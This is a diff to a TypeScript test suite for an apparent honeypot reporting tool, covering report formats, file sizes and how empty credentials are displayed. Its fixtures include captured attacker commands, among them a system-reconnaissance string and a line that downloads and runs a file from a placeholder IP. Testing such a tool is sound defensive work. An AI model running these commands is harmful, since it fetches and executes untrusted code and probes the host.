@@ -8,6 +8,7 @@ import { toVisible } from '../../src/neutralize/visible.ts'
 import { count } from '../../src/output/document.ts'
 import { OUTPUTS } from '../../src/output/outputs.ts'
 import { reportDocument } from '../../src/report/document.ts'
+import { renderReportHtml } from '../../src/report/html/index.ts'
 import {
   makeReport,
   type Period,
@@ -211,6 +212,7 @@ eachEngine(() => {
             ...{ shares: 'commands', value: 'uname -a; cat /proc/cpuinfo; id', addresses: 3 },
             ...{ sessions: 3, sensors: 2, firstDay: '2026-05-10', lastDay: '2026-05-10' },
             threatScore: campaigns![0]!.threatScore,
+            hazardScore: 0,
           },
         ],
       )
@@ -427,6 +429,33 @@ eachEngine(() => {
     assert.doesNotThrow(() => renderReport(brief, paintWith(false), 80))
   })
 
+  test('a file that was looked up beside the logs has a size in every format, another none', async () => {
+    await using lab = await loaded(session({ file: FILE }), session({ file: 'cd'.repeat(32) }))
+    const artifact = { kind: 'download', seenAtUs: NOW_US } as const
+    await lab.store.saveArtifacts([
+      { ...artifact, path: '/a', sha256: FILE, size: 91_136, namedBy: FILE },
+      // Bears the name of a hash and holds something else.
+      { ...artifact, path: '/b', sha256: FILE, size: 91_136, namedBy: 'cd'.repeat(32) },
+    ])
+    const report = await reportOf(lab)
+    assert.deepEqual(
+      report.top.files.map(({ value, size }) => [value.slice(0, 2), size]),
+      [
+        ['ab', 91_136],
+        ['cd', undefined],
+      ],
+    )
+    assert.match(renderReport(report, paintWith(false), 120).text, /89\.0 KiB {2}abab/)
+    assert.match(renderReportHtml({ ...report, redaction: 'internal' }, 10).text, /91\.1 kB/)
+    const { columns, rows } = reportDocument(report, NOW_US).tables.find(
+      ({ name }) => name === 'files',
+    )!
+    assert.deepEqual(
+      rows.map((cells) => cells[columns.indexOf('size_bytes')]),
+      [count(91_136), count(null)],
+    )
+  })
+
   test('every command shown has its scores, also in a brief report, and what is empty in a credential is named', async () => {
     await using lab = await loaded(
       session({ commands: ['wget http://192.0.2.9/x; chmod +x x; ./x'], password: '' }),
@@ -449,6 +478,8 @@ eachEngine(() => {
     }
     assert.equal(credentialShown(toVisible(' / ')), '(empty) / (empty)')
     assert.equal(credentialShown(toVisible('a / b')), 'a / b')
+    assert.equal(credentialShown(toVisible('(empty) / ')), '"(empty)" / (empty)')
+    assert.equal(credentialShown(toVisible(' / "(empty)"')), '(empty) / ""(empty)""')
   })
 
   test('a store without an event in the period gives a whole report of zeros', async () => {
